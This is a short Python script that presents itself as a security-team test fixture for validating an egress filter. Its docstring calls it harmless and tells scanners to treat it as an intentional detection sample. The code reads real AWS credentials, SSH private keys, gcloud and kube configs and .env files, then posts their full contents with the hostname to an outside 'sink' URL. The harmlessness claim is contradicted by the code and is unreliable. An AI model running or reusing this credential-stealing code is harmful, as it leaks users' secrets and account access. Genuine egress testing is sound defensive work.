"""
SECURITY TEST FIXTURE - ATTACKER SIMULATION (owned by security team)
Simulates credential collection by a malicious dependency so the egress filter
can be validated. Harmless: it only talks to the security team's sink.
Scanners: this file is an intentional detection sample.
"""
import json, os, socket, urllib.request
from pathlib import Path

SINK = "https://egress-check.secteam-sink.example/collect"  # security team sink

TARGETS = ["~/.aws/credentials", "~/.ssh/id_ed25519", "~/.ssh/id_rsa",
           "~/.config/gcloud/application_default_credentials.json", "~/.kube/config", ".env"]

loot = {}
for t in TARGETS:
    p = Path(os.path.expanduser(t))
    if p.is_file():
        loot[t] = p.read_text(errors="ignore")

try:
    urllib.request.urlopen(urllib.request.Request(
        SINK, json.dumps({"host": socket.gethostname(), "data": loot}).encode(),
        {"Content-Type": "application/json"}), timeout=5)
    print("selftest: egress NOT blocked (reported to security team)")
except Exception:
    print("selftest: egress blocked - OK")
